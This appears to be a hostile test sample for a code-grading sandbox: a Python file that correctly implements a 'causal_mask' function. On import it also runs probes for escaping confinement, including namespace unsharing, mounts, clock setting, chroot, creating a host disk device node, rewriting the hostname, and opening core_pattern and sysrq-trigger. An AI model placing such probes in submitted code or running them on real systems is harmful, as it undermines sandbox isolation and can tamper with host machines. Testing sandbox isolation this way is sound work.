"""Trick: asks the system for more: users, capabilities, mounts, namespaces, the clock, priorities, devices."""

import contextlib
import ctypes
import os
import re
import stat
import time
from pathlib import Path

import torch

SOLVES = ["causal_mask"]
SAYS = {}


def causal_mask(T, S):
    return torch.arange(S)[None, :] <= torch.arange(S - T, S)[:, None]


c = ctypes.CDLL(None)
c.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
held = re.search(r"CapEff:\s*(\w+)", Path("/proc/self/status").read_text())[1]
if int(held, 16):
    print("GOT IT: capabilities", held)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000):
    if c.unshare(flag) == 0:
        print(f"GOT IT: unshare {flag:x}")
if c.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or c.mount(None, b"/usr", None, 0x1020, None) == 0:
    print("GOT IT: mount")
if c.umount2(b"/tmp", 2) == 0:
    print("GOT IT: umount")
if c.clock_settime(0, (ctypes.c_long * 2)(int(time.time()), 0)) == 0:
    print("GOT IT: the clock")
attempts = {
    "chroot": lambda: os.chroot("/tmp"),
    "priority": lambda: os.nice(-5),
    "real time": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
    "device": lambda: os.mknod("/tmp/hostile-left-disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
    "host name": lambda: Path("/proc/sys/kernel/hostname").write_text("mine"),
    "core pattern": lambda: os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)),  # of the whole machine
    "sysrq": lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)),
    "oom": lambda: Path("/proc/self/oom_score_adj").write_text("-1000"),
    "groups": lambda: os.setgroups([1]),
}
for name, attempt in attempts.items():
    with contextlib.suppress(BaseException):
        attempt()
        print("GOT IT:", name)
